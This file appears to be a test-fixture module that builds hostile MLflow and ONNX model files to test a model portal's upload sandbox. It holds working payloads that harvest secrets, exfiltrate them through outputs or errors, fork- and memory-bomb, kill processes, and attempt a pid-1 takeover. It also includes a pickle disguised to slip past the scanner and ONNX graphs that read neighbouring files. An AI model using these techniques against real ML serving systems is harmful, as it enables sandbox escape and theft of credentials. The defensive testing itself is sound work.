"""Hostile model files for ``test_hostile_uploads.py``: models that, once loaded, try to get out.

Every payload is a real MLflow ``python_function`` model carrying code (the format data scientists use for custom
models), built three ways, tried in this order until the portal's static scanner takes one:

- ``cloudpickle``: the ordinary custom pyfunc, ``python_model`` pickled by value with cloudpickle;
- ``loader_module``: a ``code/`` folder with the loader module the MLmodel names;
- ``disguised``: the same custom pyfunc whose pickle starts with ``N0`` (push None, pop it): valid for the
  unpickler, but it does not look like a pickle to a sniffer that expects ``\\x80`` or a leading GLOBAL, so it goes
  through as text. That is a scanner bypass, used only so the suite reaches real loading with today's scanner.

What each payload does (``ACTIONS``) is decided by its configuration; every one of them is bounded so that it stops
by itself even when nothing contains it (fork and memory bombs end at a count, a time and a free-memory floor; kills
only reach processes started by the test, which carry a sentinel variable, unless the payload finds itself in a pid
namespace of its own). A bounded payload that reaches its own bound instead of being stopped says so: it writes an
``escaped`` canary and raises an error carrying ``ESCAPED-<token>``, which the suite looks for everywhere.

The payloads never exfiltrate anything but the portal's own test secrets: environment files are filtered to the
variable names in ``ENV_NAMES`` (so a leak report can never carry a credential of the machine the suite runs on).
"""

from __future__ import annotations

import io
import json
import pickle
import sys
import types
import uuid
import zipfile
from dataclasses import dataclass, field
from typing import Any

import numpy as np

TRIGGER = 666.0  # an input value that makes the exfiltrating payloads hand their loot back (never in the example)
COLUMNS = ["f0", "f1"]
EXAMPLE = {"columns": COLUMNS, "data": [[1.0, 2.0], [3.0, 4.0]]}
FORK_CAP = 2000
FORK_SECONDS = 15
FORK_CHILD_SLEEP = 20
MEMORY_TARGET = 20 * 1024**3
MEMORY_CHUNK = 256 * 1024**2
MEMORY_HEADROOM = 6 * 1024**3  # a memory bomb nothing stops gives up while this much is still free on the machine
MEMORY_SECONDS = 60
MAP_BYTES = 8 * 1024**3  # "maps past the memory limit": twice the default sandbox limit (mapped, never touched)
SPIN_SECONDS = 90  # how long the pid-1 payload spins after answering when nothing stops it
SURVIVOR_SECONDS = 120  # how long its forked, detached processes live when nothing kills them

ACTIONS = (
    "none", "write_var", "write_tmp", "write_pth", "write_cwd",
    "exfil_output", "exfil_exception_load", "exfil_exception_predict", "exfil_stderr", "exfil_signature",
    "net_redis", "net_postgres", "fork_bomb", "memory_bomb", "kill_parent", "kill_all", "pid1_takeover",
)
ROUTES = ("cloudpickle", "loader_module", "disguised")


# The code a hostile model carries. It is executed at load in whatever process loads the model; it must do nothing
# when merely defined (the suite defines it to pickle it). ``CFG`` is filled in per build.
PAYLOAD = r'''
import json
import os
import signal
import socket
import sys
import time

import mlflow.pyfunc

CFG = json.loads(__CFG__)
TOKEN = CFG["token"]
ACTION = CFG["action"]


def _once(key):
    done = sys.__dict__.setdefault("_hostile_once", set())
    mark = (TOKEN, key, os.getpid())
    if mark in done:
        return False
    done.add(mark)
    return True


def _canary_name(what):
    return "hostile-canary-%s-%s-%d-%d" % (TOKEN, what, os.getpid(), time.monotonic_ns())


def _write(path, text):
    try:
        with open(path, "w") as fh:
            fh.write(text)
    except Exception:
        pass


def _write_canary(where):
    name = _canary_name(where)
    path = {
        "var": os.path.join(CFG["var_dir"], name),
        "tmp": os.path.join("/tmp", name),
        "pth": os.path.join(CFG["site_packages"], name.replace("-", "_") + ".pth"),
        "cwd": os.path.join(os.getcwd(), name),
    }[where]
    _write(path, "# %s: a comment line only, inert in a .pth\n" % TOKEN)


def _escaped(what):
    """The payload hit its own safety bound: nothing stopped it. Say so everywhere it can."""
    message = "ESCAPED-%s: %s (pid %d)" % (TOKEN, what, os.getpid())
    for where in ("var", "tmp"):
        _write(os.path.join(CFG["var_dir"] if where == "var" else "/tmp", _canary_name("escaped")), message + "\n")
    try:
        sys.stderr.write(message + "\n")
        sys.stderr.flush()
    except Exception:
        pass
    raise RuntimeError(message)


def _env_values(raw):
    for item in raw.split(b"\0"):
        key, _, value = item.partition(b"=")
        if key.decode("utf-8", "replace") in CFG["env_names"] and value:
            yield value.decode("utf-8", "replace")


def _loot():
    found = []

    def add(value):
        value = str(value or "").strip()
        if value and value not in found:
            found.append(value)

    for name in CFG["env_names"]:
        add(os.environ.get(name))
    try:
        pids = [str(os.getppid()), "1"] + sorted(p for p in os.listdir("/proc") if p.isdigit())
    except OSError:
        pids = []
    for pid in pids[:4000]:
        try:
            with open("/proc/%s/environ" % pid, "rb") as fh:
                raw = fh.read(1 << 17)
        except OSError:
            continue
        for value in _env_values(raw):
            add(value)
    for path in CFG["secret_files"]:
        try:
            with open(path, encoding="utf-8", errors="replace") as fh:
                add(fh.read(200))
        except OSError:
            pass
    if "django.conf" in sys.modules:
        try:
            from django.conf import settings

            if settings.configured:
                add(settings.SECRET_KEY)
                db = settings.DATABASES["default"]
                add("postgres://%s@%s:%s/%s" % (db.get("USER"), db.get("HOST"), db.get("PORT"), db.get("NAME")))
                add(getattr(settings, "CELERY_BROKER_URL", ""))
        except Exception:
            pass
    return found


def _loot_text():
    return "LOOT[%s]" % " | ".join(_loot())


def _mem_available():
    free = 1 << 62
    try:
        with open("/proc/meminfo") as fh:
            for line in fh:
                if line.startswith("MemAvailable:"):
                    free = min(free, int(line.split()[1]) * 1024)
    except (OSError, ValueError):
        pass
    for limit_file, usage_file in (("/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/memory.current"),
                                   ("/sys/fs/cgroup/memory/memory.limit_in_bytes",
                                    "/sys/fs/cgroup/memory/memory.usage_in_bytes")):
        try:
            with open(limit_file) as fh:
                limit = fh.read().strip()
            with open(usage_file) as fh:
                usage = int(fh.read().strip())
            if limit.isdigit():
                free = min(free, int(limit) - usage)
        except (OSError, ValueError):
            pass
    return free


def _redis():
    def resp(*parts):
        out = b"*%d\r\n" % len(parts)
        for part in parts:
            data = part.encode()
            out += b"$%d\r\n%s\r\n" % (len(data), data)
        return out

    for db in CFG["redis_dbs"]:
        try:
            with socket.create_connection((CFG["redis_host"], CFG["redis_port"]), timeout=2) as sock:
                key = "hostile:%s:%d" % (TOKEN, os.getpid())
                sock.sendall(resp("SELECT", str(db)) + resp("SET", key, "written by a model"))
                sock.recv(256)
        except OSError:
            pass


def _postgres():
    try:
        import psycopg2
    except Exception:
        return
    for name in CFG["pg_databases"]:
        try:
            conn = psycopg2.connect(host=CFG["pg_host"], port=CFG["pg_port"], user="postgres", dbname=name,
                                    connect_timeout=2)
        except Exception:
            continue
        try:
            conn.autocommit = True
            with conn.cursor() as cur:
                cur.execute("CREATE TABLE IF NOT EXISTS hostile_%s (pid integer, note text)" % TOKEN)
                cur.execute("INSERT INTO hostile_%s VALUES (%%s, %%s)" % TOKEN, (os.getpid(), "written by a model"))
        except Exception:
            pass
        finally:
            conn.close()


def _fork_bomb():
    if not _once("fork"):
        return
    started = time.monotonic()
    forked = 0
    while forked < CFG["fork_cap"] and time.monotonic() - started < CFG["fork_seconds"]:
        if _mem_available() < CFG["memory_headroom"]:
            break
        try:
            pid = os.fork()
        except OSError:
            return  # contained: the sandbox refused a fork
        if pid == 0:
            try:
                os.closerange(0, 65536)
                time.sleep(CFG["fork_child_sleep"])
            finally:
                os._exit(0)
        forked += 1
    _escaped("fork bomb: forked %d processes, none refused" % forked)


def _memory_bomb():
    if not _once("memory"):
        return
    chunks = []
    total = 0
    started = time.monotonic()
    try:
        while total < CFG["memory_target"] and time.monotonic() - started < CFG["memory_seconds"]:
            if _mem_available() < CFG["memory_headroom"]:
                break
            chunks.append(b"\x5a" * CFG["memory_chunk"])
            total += CFG["memory_chunk"]
    except MemoryError:
        chunks.clear()
        return  # contained
    chunks.clear()
    _escaped("memory bomb: held %d MiB, never refused" % (total >> 20))


def _may_kill(pid):
    if pid <= 0 or pid == os.getpid():
        return False
    try:
        if os.readlink("/proc/self/ns/pid") != CFG["host_pid_namespace"]:
            return True  # a pid namespace of its own: everything it can see is inside the sandbox
    except OSError:
        return False
    try:
        with open("/proc/%d/environ" % pid, "rb") as fh:
            environ = fh.read()
    except OSError:
        return False
    return (CFG["sentinel_name"] + "=").encode() in environ  # only processes the test started


def _kill(pid):
    if _may_kill(pid):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


def _survivor_name():
    return ("h" + TOKEN)[:15]  # /proc/PID/comm: how the suite finds, from outside, any process of this payload


def _pid1_takeover(when):
    """What issue 31 found: take over the sandbox's init (write /proc/1/mem, take its descriptors), clear the
    parent-death signal, fork into a new session, map past the memory limit. Every success against a process that
    is not itself is an escape; what happened is handed back (the trigger row's prediction)."""
    import ctypes

    _write("/proc/self/comm", _survivor_name())
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    facts = {"when": when, "pid": os.getpid()}
    try:
        facts["processes"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    except OSError:
        facts["processes"] = []
    init_is_other = os.getpid() != 1
    try:
        with open("/proc/1/mem", "r+b", buffering=0):
            facts["mem"] = "opened"
        if init_is_other:
            _escaped("opened pid 1's memory for writing")
    except OSError as exc:
        facts["mem"] = exc.errno
    pidfd = libc.syscall(434, 1, 0)  # pidfd_open(1, 0): the same number on x86_64 and aarch64
    taken = libc.syscall(438, pidfd, 2, 0) if pidfd >= 0 else -1  # pidfd_getfd: pid 1's stderr
    facts["pidfd_getfd"] = "took" if taken >= 0 else ctypes.get_errno()
    if taken >= 0 and init_is_other:
        _escaped("took a descriptor of pid 1")
    facts["pdeathsig"] = "cleared" if libc.prctl(1, 0, 0, 0, 0) == 0 else ctypes.get_errno()
    facts["nice"] = os.getpriority(os.PRIO_PROCESS, 0)  # the priority it was given: take the CPU back from the portal
    try:
        os.setpriority(os.PRIO_PROCESS, 0, 0)
        facts["renice"] = "raised"
    except OSError as exc:
        facts["renice"] = exc.errno
    try:
        os.setsid()  # a session of its own would be an autogroup of its own, at the default priority
        facts["setsid"] = "new session"
    except OSError as exc:
        facts["setsid"] = exc.errno
    try:
        child = os.fork()
        if child == 0:
            try:
                os.setsid()
                libc.prctl(1, 0, 0, 0, 0)
                _write("/proc/self/comm", _survivor_name())
                time.sleep(CFG["survivor_seconds"])
            finally:
                os._exit(0)
        facts["fork"] = "forked"
    except OSError as exc:
        facts["fork"] = exc.errno
    try:
        import mmap

        mapped = mmap.mmap(-1, CFG["map_bytes"])
        mapped.close()
        facts["mapped"] = CFG["map_bytes"]
    except (OSError, MemoryError, OverflowError, ValueError):
        facts["mapped"] = 0
    if facts["mapped"]:
        _escaped("mapped %d bytes, past any sandbox's memory limit" % facts["mapped"])
    return facts


def _spin_after_answering():
    import threading

    def spin():
        started = time.monotonic()
        while time.monotonic() - started < CFG["spin_seconds"]:
            pass

    threading.Thread(target=spin, daemon=True).start()


def _act(when):
    if ACTION.startswith("write_"):
        _write_canary(ACTION[len("write_"):])
    elif ACTION == "exfil_stderr":
        sys.stderr.write("hostile model (%s): %s\n" % (when, _loot_text()))
        sys.stderr.flush()
    elif ACTION == "net_redis":
        _redis()
    elif ACTION == "net_postgres":
        _postgres()
    elif ACTION == "fork_bomb":
        _fork_bomb()
    elif ACTION == "memory_bomb":
        _memory_bomb()
    elif ACTION == "kill_parent":
        _kill(os.getppid())
    elif ACTION == "kill_all":
        for name in os.listdir("/proc"):
            if name.isdigit():
                _kill(int(name))
    elif ACTION == "pid1_takeover":
        return _pid1_takeover(when)


def _model_dir():
    frame = sys._getframe(1)
    while frame is not None:
        for name in ("model_path", "local_path", "path"):
            value = frame.f_locals.get(name)
            if isinstance(value, str) and os.path.isfile(os.path.join(value, "MLmodel")):
                return value
        frame = frame.f_back
    return None


def _rewrite_example(loot):
    """Hand the loot back as input columns: the sandbox infers the signature from the example it reads after
    loading the model."""
    where = _model_dir()
    if where is None:
        return
    columns = list(CFG["columns"]) + loot
    rows = [[1.0, 2.0] + [0.0] * len(loot), [3.0, 4.0] + [0.0] * len(loot)]
    _write(os.path.join(where, "input_example.json"), json.dumps({"columns": columns, "data": rows}))


def _predict(data):
    import numpy as np
    import pandas as pd

    frame = data if isinstance(data, pd.DataFrame) else pd.DataFrame(data)
    numbers = frame.select_dtypes("number")
    triggered = bool((numbers == CFG["trigger"]).to_numpy().any())
    facts = _act("predict")
    if ACTION == "pid1_takeover":
        _spin_after_answering()
        if triggered:
            return [json.dumps(facts)] * len(frame)
    if triggered and ACTION == "exfil_output":
        return [_loot_text()] * len(frame)
    if triggered and ACTION == "exfil_exception_predict":
        raise RuntimeError(_loot_text())
    return (numbers.iloc[:, 0] + numbers.iloc[:, 1]).astype("float64").to_numpy()


class HostileModel(mlflow.pyfunc.PythonModel):
    def load_context(self, context):
        _act("load")
        if ACTION == "exfil_exception_load":
            raise RuntimeError(_loot_text())
        if ACTION == "exfil_signature":
            loot = _loot()
            self.feature_names_in_ = list(CFG["columns"]) + loot
            _rewrite_example(loot)

    def predict(self, context, model_input=None, params=None):
        return _predict(model_input if model_input is not None else context)


class _LoaderModel:
    def __init__(self, model):
        self._model = model
        if hasattr(model, "feature_names_in_"):
            self.feature_names_in_ = model.feature_names_in_

    def predict(self, data, params=None):
        return _predict(data)

    def get_raw_model(self):
        return self


def _load_pyfunc(path):
    model = HostileModel()
    model.load_context(None)
    return _LoaderModel(model)
'''


@dataclass
class Setting:
    """What the payloads know about the place they are loaded in (what an attacker would guess or read)."""

    token: str
    var_dir: str
    site_packages: str
    sentinel_name: str
    host_pid_namespace: str
    secret_files: list[str]
    env_names: list[str]
    pg_databases: list[str]
    redis_dbs: list[int] = field(default_factory=lambda: [0, 1])


def config(setting: Setting, action: str) -> dict[str, Any]:
    assert action in ACTIONS, action
    return {
        "token": setting.token, "action": action, "var_dir": setting.var_dir, "site_packages": setting.site_packages,
        "sentinel_name": setting.sentinel_name, "host_pid_namespace": setting.host_pid_namespace,
        "secret_files": setting.secret_files, "env_names": setting.env_names, "pg_databases": setting.pg_databases,
        "redis_dbs": setting.redis_dbs, "redis_host": "127.0.0.1", "redis_port": 6379, "pg_host": "127.0.0.1",
        "pg_port": 5432, "trigger": TRIGGER, "columns": COLUMNS, "fork_cap": FORK_CAP, "fork_seconds": FORK_SECONDS,
        "fork_child_sleep": FORK_CHILD_SLEEP, "memory_target": MEMORY_TARGET, "memory_chunk": MEMORY_CHUNK,
        "memory_headroom": MEMORY_HEADROOM, "memory_seconds": MEMORY_SECONDS, "map_bytes": MAP_BYTES,
        "spin_seconds": SPIN_SECONDS, "survivor_seconds": SURVIVOR_SECONDS,
    }


def payload_source(cfg: dict[str, Any]) -> str:
    return PAYLOAD.replace("__CFG__", repr(json.dumps(cfg)))


def _module_name(cfg: dict[str, Any]) -> str:
    return f"hostile_{cfg['token']}_{cfg['action']}"


def _mlmodel(*, python_function: dict[str, Any], with_signature: bool, with_example: bool) -> str:
    import cloudpickle
    import mlflow
    import yaml

    doc: dict[str, Any] = {
        "flavors": {"python_function": {**python_function, "python_version": ".".join(map(str, sys.version_info[:3])),
                                        "cloudpickle_version": cloudpickle.__version__}},
        "mlflow_version": mlflow.__version__,
        "model_uuid": uuid.uuid4().hex,
        "utc_time_created": "2026-01-01 00:00:00.000000",
    }
    if with_signature:
        doc["signature"] = {
            "inputs": json.dumps([{"type": "double", "name": c, "required": True} for c in COLUMNS]),
            "outputs": json.dumps([{"type": "double", "required": True}]),
            "params": None,
        }
    if with_example:
        doc["saved_input_example_info"] = {"artifact_path": "input_example.json", "type": "dataframe",
                                           "pandas_orient": "split"}
    return str(yaml.safe_dump(doc, sort_keys=True))


class _Reduce:
    def __init__(self, func: object, args: tuple[object, ...]) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.func, self.args


def disguised_pickle(source: str, module: str) -> bytes:
    """A protocol-0 pickle that defines ``module`` from ``source`` and returns ``module.HostileModel()``, prefixed
    with ``N0`` (NONE, POP) so that it reads as text to a sniffer that expects a pickle to start otherwise."""
    bootstrap = (f"import sys, types\n_m = types.ModuleType({module!r})\nsys.modules[{module!r}] = _m\n"
                 f"exec({source!r}, _m.__dict__)\n")
    define = pickle.dumps(_Reduce(exec, (bootstrap,)), protocol=0)
    assert define.endswith(b".")
    return b"N0" + define[:-1] + b"0" + f"c{module}\nHostileModel\n(tR.".encode()


def cloudpickled_model(source: str, module: str) -> bytes:
    """The ordinary custom pyfunc: an instance of the payload's class, pickled by value (its module is not
    importable anywhere else). Defining the module runs none of the payload."""
    import cloudpickle

    namespace = types.ModuleType(module)
    exec(compile(source, f"<{module}>", "exec"), namespace.__dict__)  # noqa: S102 - our own payload, definitions only
    return bytes(cloudpickle.dumps(namespace.HostileModel()))


def model_zip(cfg: dict[str, Any], route: str) -> bytes:
    """The MLflow model zip of ``cfg``'s payload, built the ``route`` way."""
    assert route in ROUTES, route
    source = payload_source(cfg)
    module = _module_name(cfg)
    signature = cfg["action"] != "exfil_signature"  # that one lets the sandbox infer it from what the model shows
    example = True
    members: list[tuple[str, bytes]] = []
    if route == "loader_module":
        pyfunc = {"loader_module": module, "code": "code"}
        members.append((f"code/{module}.py", source.encode()))
    elif route == "cloudpickle":
        pyfunc = {"loader_module": "mlflow.pyfunc.model", "python_model": "python_model.pkl"}
        members.append(("python_model.pkl", cloudpickled_model(source, module)))
    else:
        pyfunc = {"loader_module": "mlflow.pyfunc.model", "python_model": "python_model.data"}
        members.append(("python_model.data", disguised_pickle(source, module)))
    members.append(("MLmodel", _mlmodel(python_function=pyfunc, with_signature=signature,
                                        with_example=example).encode()))
    if example:
        members.append(("input_example.json", json.dumps(EXAMPLE).encode()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


class _Memmap:
    """Unpickles as ``numpy.memmap(path, 'uint8', 'w+', 0, (16,))``: a model class on the scanner's allowlist that
    creates (or truncates) any file the loading process may write."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return np.memmap, (self.path, "uint8", "w+", 0, (16,))


def memmap_pickle(model: Any, path: str) -> bytes:
    """A working scikit-learn model (a copy of ``model``) whose pickle also writes ``path`` when it is loaded."""
    import copy

    carrier = copy.deepcopy(model)
    carrier._hostile_memmap = _Memmap(path)
    return pickle.dumps(carrier, protocol=5)


# --- Hostile ONNX graphs (issue 31: the in-process ONNX path) ------------------------------------------------------
# No code runs from an ONNX file; these attack what onnxruntime does with data: read another file as a tensor's
# external data, loop or allocate as told by an input value. Each graph takes two float inputs per row (f0, f1), and
# answers one float per row, so it looks like an ordinary tabular model to the scan (its example is zeros).

ONNX_COLUMNS = ["f0", "f1"]


def _onnx_model(nodes: list[Any], *, initializers: list[Any] | None = None, sparse: list[Any] | None = None,
                functions: list[Any] | None = None, doc: str = "") -> Any:
    from onnx import TensorProto, helper

    graph = helper.make_graph(nodes, "hostile", [helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, 2])],
                              [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [None])],
                              initializer=initializers or [], sparse_initializer=sparse or [])
    opsets = [helper.make_opsetid("", 17)] + ([helper.make_opsetid("hostile", 1)] if functions else [])
    model = helper.make_model(graph, opset_imports=opsets, functions=functions or [], doc_string=doc)
    model.ir_version = 8
    return model


def _external(name: str, location: str, count: int) -> Any:
    """A float tensor of ``count`` values whose bytes onnxruntime reads from ``location`` (next to the model)."""
    from onnx import TensorProto

    tensor = TensorProto(name=name, data_type=TensorProto.FLOAT, dims=[count], data_location=TensorProto.EXTERNAL)
    for key, value in (("location", location), ("offset", "0"), ("length", str(4 * count))):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    return tensor


def _first_column_as_index() -> list[Any]:
    from onnx import TensorProto, helper

    return [helper.make_node("Constant", [], ["zero"], value=helper.make_tensor("z", TensorProto.INT64, [], [0])),
            helper.make_node("Gather", ["X", "zero"], ["c0"], axis=1),
            helper.make_node("Cast", ["c0"], ["idx"], to=TensorProto.INT64)]


def onnx_reading_sibling(victim: str, count: int, *, blob_prefix: str = "") -> bytes:
    """A graph whose ``sparse_initializer`` values are ``count`` floats read, as external data, from the file
    ``victim`` in the model's own folder; a request's first column picks which 4 bytes come back as a prediction.
    With ``blob_prefix`` (the victim blob's first four hex digits), the doc string is varied until the graph's own
    SHA-256 starts with them: the blob store then files it in the victim's folder (``blobs/ab/cd/``)."""
    import hashlib
    import itertools

    from onnx import TensorProto, helper

    indices = helper.make_tensor("S_indices", TensorProto.INT64, [count], list(range(count)))
    sparse = helper.make_sparse_tensor(_external("S", victim, count), indices, [count])
    nodes = [*_first_column_as_index(), helper.make_node("Gather", ["S", "idx"], ["Y"], axis=0)]
    model = _onnx_model(nodes, sparse=[sparse])
    for attempt in itertools.count():
        model.doc_string = f"converted by skl2onnx ({attempt})"
        data: bytes = model.SerializeToString()
        if hashlib.sha256(data).hexdigest().startswith(blob_prefix):
            return data
    raise AssertionError("unreachable")


def onnx_external_in_subgraph(location: str) -> bytes:
    """External data where onnx's own graph-initializer check does not look: a Constant inside an ``If`` branch."""
    from onnx import TensorProto, helper

    def branch(name: str, tensor: Any) -> Any:
        return helper.make_graph([helper.make_node("Constant", [], [f"{name}_out"], value=tensor)], name, [],
                                 [helper.make_tensor_value_info(f"{name}_out", TensorProto.FLOAT, [None])])

    nodes = [helper.make_node("ReduceSum", ["X"], ["total"], keepdims=0),
             helper.make_node("Constant", [], ["limit"], value=helper.make_tensor("l", TensorProto.FLOAT, [], [0.0])),
             helper.make_node("Greater", ["total", "limit"], ["cond"]),
             helper.make_node("If", ["cond"], ["picked"],
                              then_branch=branch("then", _external("secret", location, 4)),
                              else_branch=branch("else", helper.make_tensor("zeros", TensorProto.FLOAT, [4], [0.0] * 4))),
             *_first_column_as_index(), helper.make_node("Gather", ["picked", "idx"], ["Y"], axis=0)]
    return bytes(_onnx_model(nodes).SerializeToString())


def onnx_external_in_function(location: str) -> bytes:
    """External data inside a model-local function's body (``ModelProto.functions``)."""
    from onnx import helper

    body = helper.make_function("hostile", "Secret", [], ["out"],
                                [helper.make_node("Constant", [], ["out"], value=_external("secret", location, 4))],
                                [helper.make_opsetid("", 17)])
    nodes = [helper.make_node("Secret", [], ["picked"], domain="hostile"), *_first_column_as_index(),
             helper.make_node("Gather", ["picked", "idx"], ["Y"], axis=0)]
    return bytes(_onnx_model(nodes, functions=[body]).SerializeToString())


def _per_row(scalar: str) -> list[Any]:
    """Y = f0 * 0 + scalar: one answer per row, the attack's scalar added to each."""
    from onnx import TensorProto, helper

    return [helper.make_node("Constant", [], ["nought"], value=helper.make_tensor("n", TensorProto.FLOAT, [], [0.0])),
            helper.make_node("ReduceSum", ["X", "axis1"], ["rowsum"], keepdims=0),
            helper.make_node("Mul", ["rowsum", "nought"], ["zeroed"]),
            helper.make_node("Add", ["zeroed", scalar], ["Y"])]


def _axis1() -> Any:
    from onnx import TensorProto, helper

    return helper.make_tensor("axis1", TensorProto.INT64, [1], [1])


def onnx_loop() -> bytes:
    """A ``Loop`` whose trip count is the sum of the request's values (0 for the zero example; a billion for
    ``[[1e9, 0]]``): nothing about the graph's size bounds its work."""
    from onnx import TensorProto, helper

    body = helper.make_graph(
        [helper.make_node("Add", ["acc_in", "one"], ["acc_out"]), helper.make_node("Identity", ["cond_in"], ["cond_out"])],
        "body", [helper.make_tensor_value_info("i", TensorProto.INT64, []),
                 helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
                 helper.make_tensor_value_info("acc_in", TensorProto.FLOAT, [])],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("acc_out", TensorProto.FLOAT, [])],
        [helper.make_tensor("one", TensorProto.FLOAT, [], [1.0])])
    nodes = [helper.make_node("ReduceSum", ["X"], ["total"], keepdims=0),
             helper.make_node("Cast", ["total"], ["trips"], to=TensorProto.INT64),
             helper.make_node("Constant", [], ["go"], value=helper.make_tensor("g", TensorProto.BOOL, [], [True])),
             helper.make_node("Constant", [], ["start"], value=helper.make_tensor("s", TensorProto.FLOAT, [], [0.0])),
             helper.make_node("Loop", ["trips", "go", "start"], ["count"], body=body),
             helper.make_node("Mul", ["count", "tiny"], ["scalar"]), *_per_row("scalar")]
    tiny = helper.make_tensor("tiny", TensorProto.FLOAT, [], [0.0])
    return bytes(_onnx_model(nodes, initializers=[tiny, _axis1()]).SerializeToString())


def onnx_constant_of_shape() -> bytes:
    """``ConstantOfShape`` sized by the request: ``[[1e9, 0]]`` asks for 4 GB of ones, then sums them."""
    from onnx import TensorProto, helper

    nodes = [helper.make_node("ReduceSum", ["X"], ["total"], keepdims=0),
             helper.make_node("Cast", ["total"], ["size"], to=TensorProto.INT64),
             helper.make_node("Reshape", ["size", "shape1"], ["dims"]),
             helper.make_node("ConstantOfShape", ["dims"], ["ones"],
                              value=helper.make_tensor("v", TensorProto.FLOAT, [1], [1.0])),
             helper.make_node("ReduceSum", ["ones"], ["filled"], keepdims=0),
             helper.make_node("Mul", ["filled", "tiny"], ["scalar"]), *_per_row("scalar")]
    inits = [helper.make_tensor("shape1", TensorProto.INT64, [1], [1]), helper.make_tensor("tiny", TensorProto.FLOAT,
                                                                                          [], [0.0]), _axis1()]
    return bytes(_onnx_model(nodes, initializers=inits).SerializeToString())


def forging_pyfunc_zip(onnx_bytes: bytes) -> bytes:
    """A custom pyfunc (code an approver trusts) that behaves at upload, and, when the deployment's "prepare the
    serving form" step loads it in the sandbox, writes ``onnx_bytes`` as the serving ONNX and answers for the
    sandbox as the conversion would: ``{"ok": true, "kind": "onnx"}``. What the portal does with that claim is the
    test."""
    import base64

    source = f'''
import base64
import json
import os
import sys

import mlflow.pyfunc

FORGED = base64.b64decode({base64.b64encode(onnx_bytes).decode()!r})


class ForgingModel(mlflow.pyfunc.PythonModel):
    def load_context(self, context):
        if "prepare-serving" in sys.argv:
            options = json.loads(sys.argv[sys.argv.index("prepare-serving") + 3])
            with open(options["output"], "wb") as out:
                out.write(FORGED)
            sys.stdout.write("\\n" + json.dumps({{"ok": True, "kind": "onnx", "input_dtype": "float32",
                                                "outputs": ["Y"]}}) + "\\n")
            sys.stdout.flush()
            os._exit(0)

    def predict(self, context, model_input=None, params=None):
        frame = model_input
        return (frame.iloc[:, 0] + frame.iloc[:, 1]).astype("float64").to_numpy()
'''
    return _custom_pyfunc_zip(source, "ForgingModel")


def hanging_pyfunc_zip() -> bytes:
    """A custom pyfunc that answers like ``f0 + f1``, and never answers a request holding ``TRIGGER`` (it sleeps
    an hour): a model host that hangs, with a warm-up and a scan that pass."""
    source = f'''
import time

import mlflow.pyfunc


class HangingModel(mlflow.pyfunc.PythonModel):
    def predict(self, context, model_input=None, params=None):
        frame = model_input
        if (frame.select_dtypes("number") == {TRIGGER!r}).to_numpy().any():
            time.sleep(3600)
        return (frame.iloc[:, 0] + frame.iloc[:, 1]).astype("float64").to_numpy()
'''
    return _custom_pyfunc_zip(source, "HangingModel")


def _custom_pyfunc_zip(source: str, class_name: str) -> bytes:
    """An MLflow model zip of the ``class_name`` PythonModel that ``source`` defines, cloudpickled by value."""
    import cloudpickle

    module = f"custom_{uuid.uuid4().hex[:8]}"
    namespace = types.ModuleType(module)
    exec(compile(source, f"<{module}>", "exec"), namespace.__dict__)  # noqa: S102 - our own payload, definitions only
    pyfunc = {"loader_module": "mlflow.pyfunc.model", "python_model": "python_model.pkl"}
    members = [("python_model.pkl", bytes(cloudpickle.dumps(getattr(namespace, class_name)()))),
               ("MLmodel", _mlmodel(python_function=pyfunc, with_signature=True, with_example=True).encode()),
               ("input_example.json", json.dumps(EXAMPLE).encode())]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()
